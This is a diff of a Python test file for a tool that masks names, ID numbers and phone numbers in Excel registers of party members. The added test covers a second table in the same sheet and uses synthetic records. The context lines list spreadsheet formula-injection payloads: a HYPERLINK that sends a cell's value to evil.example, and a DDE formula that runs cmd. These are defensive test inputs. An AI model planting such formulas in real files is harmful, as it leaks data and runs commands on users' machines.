@@ -113,6 +113,47 @@ def test_numbers_typed_into_other_cells_leave_masked_too(write_xlsx, tmp_path):
         assert not CLEAR_ID.search(text) and "身份证330327********" in text
 
 
+def test_a_second_table_in_the_sheet_is_masked_by_its_own_header(write_xlsx, tmp_path):
+    """The returnee table under the outflow table has its names where the first had 性别:
+    masked by the second header, not left in clear by the first."""
+    rows = [
+        ["钱库镇流动党员普查登记表（2022年4月）"],
+        ["序号", "性别", "姓名", "身份证号", "所在党支部", "流出时间", "流入地", "联系电话"],
+        [
+            1,
+            "男",
+            "钱外出",
+            valid_id("33032719800101001"),
+            "钱库社区党支部",
+            "2019.5",
+            "上海市",
+            "13811110001",
+        ],
+        [2, "男", "钱错号", "123", "钱库社区党支部", "2019.5", "上海市", "13811110002"],
+        [],
+        ["二、返乡流动党员"],
+        ["序号", "姓名", "联系电话", "身份证号", "所在党支部", "返乡时间", "创办企业", "流出时间"],
+        [
+            1,
+            "钱返乡",
+            "13811110003",
+            valid_id("33032719800101003"),
+            "钱库社区党支部",
+            "2021-10",
+            "钱家农场",
+            "2018.3",
+        ],
+    ]
+    path = write_xlsx("钱库镇_2022-04_两段.xlsx", {"名册": rows})
+    db = tmp_path / "two.duckdb"
+    [result] = ingest_paths([path], db=db).files
+    assert (result.rows_loaded, result.rows_rejected) == (2, 1), result
+    data, _rows = build_scoped_fixlist(db, result.file_hash, path, Scope.for_role("analyst"))
+    text = "\n".join(cells(data))
+    assert "钱*乡" in text and "钱返乡" not in text and "13811110003" not in text
+    assert "钱外出" not in text and not CLEAR_ID.search(text)
+
+
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?q="&B2,"点击")',
     "=cmd|' /C calc'!A0",
